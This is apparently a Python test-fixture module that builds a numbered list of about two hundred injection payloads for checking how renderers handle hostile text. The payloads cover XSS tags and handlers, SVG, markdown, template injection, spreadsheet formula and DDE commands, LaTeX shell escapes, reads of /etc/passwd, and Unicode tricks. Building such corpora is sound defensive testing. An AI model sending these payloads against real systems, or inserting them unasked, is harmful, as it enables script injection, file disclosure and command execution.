"""Some two hundred texts that run, fetch or distort wherever a text is taken for anything but text.

Each names itself by its number: one that runs calls `__xss(number)`, one that fetches asks a machine that
cannot be there.
"""

from __future__ import annotations

_RUN, _FAR = "__xss(§)", "//x§.invalid"

_SCRIPTS = [
    "<script>@</script>", "<SCRIPT>@</SCRIPT>", "<ScRiPt >@</sCrIpT >", "<script\n>@</script\n>",
    "<script src='https:^/a.js'></script>", "<script src=^/a.js></script>", "<<script>@//<</script>",
    "<script/x>@</script>", "<script>/**/@</script>", "<script type=module>@</script>",
    "<script defer src=data:text/javascript,@></script>", "<scr<script>ipt>@</scr</script>ipt>",
    "</script><script>@</script>", "</title><script>@</script>", "</textarea><script>@</script>",
    "</style><script>@</script>", "</noscript><script>@</script>", "--><script>@</script>",
    "]]><script>@</script>", "<noscript><p title='</noscript><script>@</script>'>",
    "<template><script>@</script></template>", "<xml><script>@</script></xml>",
]  # fmt: skip
_HANDLERS = [
    "<img src=x onerror=@>", "<img src=x onerror='@'>", '<img src="x" onerror="@">',
    "<IMG SRC=x ONERROR=@>", "<img/src=x/onerror=@>", "<img src=x\nonerror=@>",
    "<img src=x onerror=&#95;&#95;xss(§)>", "<img srcset='https:^/a.png 1x'>", "<img src=https:^/a.png>",
    "<img src='javascript:@'>", "<image src=x onerror=@>", "<body onload=@>", "<body onpageshow=@>",
    "<input autofocus onfocus=@>", "<input type=image src=x onerror=@>", "<select autofocus onfocus=@>",
    "<textarea autofocus onfocus=@>x</textarea>", "<button autofocus onfocus=@>x</button>",
    "<button formaction=javascript:@>x</button>", "<form action=javascript:@><input type=submit></form>",
    "<form action=https:^/><input name=a></form>", "<details open ontoggle=@>x</details>",
    "<video src=x onerror=@></video>", "<video><source onerror=@></video>",
    "<video poster=https:^/a.png></video>", "<audio src=x onerror=@></audio>",
    "<audio src=https:^/a.ogg autoplay></audio>", "<marquee onstart=@>x</marquee>",
    "<iframe src=javascript:@></iframe>", "<iframe srcdoc='<script>parent.@</script>'></iframe>",
    "<iframe src=https:^/></iframe>", "<object data=javascript:@></object>",
    "<object data=https:^/></object>", "<embed src=javascript:@>", "<embed src=https:^/>",
    "<link rel=stylesheet href=https:^/a.css>", "<link rel=prefetch href=https:^/>",
    "<link rel=stylesheet href=x onerror=@>", "<meta http-equiv=refresh content='9;url=https:^/'>",
    "<base href=https:^/>", "<style>@import 'https:^/a.css';</style>", "<style onload=@>p{}</style>",
    "<style>*{background:url(https:^/a.png)}</style>", "<div style='background:url(https:^/a.png)'>x</div>",
    "<div style='animation:a' onanimationstart=@>x</div>",
    "<p onmouseover=@ style=position:fixed;inset:0>x</p>", "<table background=https:^/a.png><td>x</table>",
    "<a href=javascript:@>x</a>", "<a href='java\tscript:@'>x</a>", "<a href=&#106;avascript:@>x</a>",
    "<a href=https:^/ ping=https:^/p>x</a>", "<area href=javascript:@>",
    "<dialog open onclose=@>x</dialog>", "<x onclick=@ tabindex=0 autofocus onfocus=@>x</x>",
    "<keygen autofocus onfocus=@>", "<frameset onload=@>", "<track src=https:^/a.vtt>",
    "<portal src=https:^/>", "<slot onslotchange=@>x</slot>",
]  # fmt: skip
_SVG = [
    "<svg onload=@>", "<svg/onload=@>", "<svg><script>@</script></svg>",
    "<svg><script href=data:,@ /></svg>", "<svg><animate onbegin=@ attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:@><text y=9>x</text></a></svg>",
    "<svg><use href=https:^/a.svg#x /></svg>", "<svg><image href=https:^/a.png /></svg>",
    "<svg><set onbegin=@ attributeName=x></svg>",
    "<svg><foreignObject><img src=x onerror=@></foreignObject></svg>",
    "<svg><style><img src=x onerror=@></style></svg>", "<math><a xlink:href=javascript:@>x</a></math>",
    "<math><mtext><img src=x onerror=@></mtext></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:@>x</maction></math>",
]  # fmt: skip
_ATTRIBUTES = [
    "\" onmouseover=\"@", "' onmouseover='@", "\" autofocus onfocus=@ x=\"", "' autofocus onfocus=@ x='",
    "`onload=@", "\"><img src=x onerror=@>", "'><img src=x onerror=@>", "></a><img src=x onerror=@>",
    "\\\"><img src=x onerror=@>", "\" style=\"position:fixed\" onclick=\"@", "x\" data-x=\"https:^/",
    "javascript:@", "JaVaScRiPt:@", " javascript:@", "vbscript:@", "data:text/html,<script>@</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+§", "//x§.invalid/a", "https:^/a?b=<b>c</b>",
    "file:///etc/passwd?§",
]  # fmt: skip
_MARKDOWN = [
    "![x](https:^/a.png)", "![x](javascript:@)", "[x](javascript:@)", "[x](JavaScript:@)",
    "[x](data:text/html,@)", "[x](https:^/)", "<https:^/>", "<javascript:@>",
    "[x][y§]\n\n[y§]: javascript:@", "![x][z§]\n\n[z§]: https:^/a.png", "[![x](https:^/a.png)](https:^/)",
    "[x](https:^/ 'title' onclick=@)", "**bold§** *it* ~~gone~~ `code`", "# heading §", "> quoted §",
    "- list §", "1. list §", "| a | b |\n|---|---|\n| § | x |", "```html\n<img src=x onerror=@>\n```",
    "    <img src=x onerror=@>", "---\n§", "[^§]: note", "- [x] done §", ":material/delete: §",
    ":red[§] :blue-background[x]", ":smile: § :shortcode:", ":badge[§]", "$§$ and $$x$$", "\\*not§\\*",
    "<!-- § -->",
]  # fmt: skip
_TEMPLATES = [
    "{{7*7}}§", "${7*7}§", "#{7*7}§", "<%= 7*7 %>§", "{% raw %}§", "{{constructor.constructor('@')()}}",
    "{{config.items()}}§", "{{''.__class__.__mro__}}§", "{0.__class__}§", "{name}§{}", "%s%n%x§",
    "%(name)s§", "$name§ ${name}", "{{{{§}}}}", "[[${7*7}]]§", "¤{7*7}§", "*{7*7}§", "`id§`", "$(id§)",
    "';@//", "\");@//", "\\u003cimg src=x onerror=@\\u003e",
]  # fmt: skip
_FORMULAS = [
    "=1+1+§", "+1+§", "-1+§", "¤SUM(1,§)", "=HYPERLINK(\"https:^/\",\"x\")", "=cmd|' /C calc'!A§", "\t=1+§",
    "=IMPORTXML(\"https:^/\",\"/\")", "=WEBSERVICE(\"https:^/\")", "＝1+§", "-2+3+cmd|' /C calc'!A§",
]  # fmt: skip
_LATEX = [
    "$\\href{javascript:@}{x}$", "$\\url{javascript:@}$", "$\\htmlData{x=§}{y}$",
    "$\\includegraphics{https:^/a.png}$", "\\input{/etc/passwd}§", "\\write18{id§}", "\\def\\x{\\x§}\\x",
    "$\\unicode{<img src=x onerror=@>}$", "\\end{document}§",
]  # fmt: skip
_CHARACTERS = [
    "&lt;img src=x onerror=@&gt;", "&#60;script&#62;@&#60;/script&#62;", "&amp;lt;b&amp;gt;§",
    "&notanentity§;", "＜script＞@＜/script＞", "\u202e§txt.exe\u202c", "\u200b<\u200bscript>@</script>",
    "a\u0301\u0316\u0317§", "\u2028@\u2029", "\ufeff<script>@</script>", "\u2066§\u2069 \u200f", "💥§👩‍⚕️",
    "𝕏§ ﬁ ſ", "ı§İ ß",
]  # fmt: skip
_LONG = ["§" + "<b>" * 200, "§ " + "W" * 1500, "§" + "[" * 300, "§" + "a\u0301" * 300]
# What would swallow all that comes after it, if it were markup.
_LAST = [
    "<img src=x onerror=@ x='", "<!-- §", "<title>§", "<textarea>§", "<style>§", "<plaintext>§",
    "<script>@//", "<svg><![CDATA[ §", "<a href='§", "<?xml §", "<noembed>§", "<xmp>§", "<select>§",
    "<frameset>§", "<math><mglyph>§", "<table><tr>§",
]  # fmt: skip
_ALL = [
    *_SCRIPTS, *_HANDLERS, *_SVG, *_ATTRIBUTES, *_MARKDOWN, *_TEMPLATES, *_FORMULAS, *_LATEX, *_CHARACTERS,
    *_LONG, *_LAST,
]  # fmt: skip


def _numbered(text: str, number: int) -> str:
    return text.replace("@", _RUN).replace("^", _FAR).replace("§", str(number)).replace("¤", "@")


PAYLOADS = tuple(_numbered(text, number) for number, text in enumerate(_ALL, 1000))
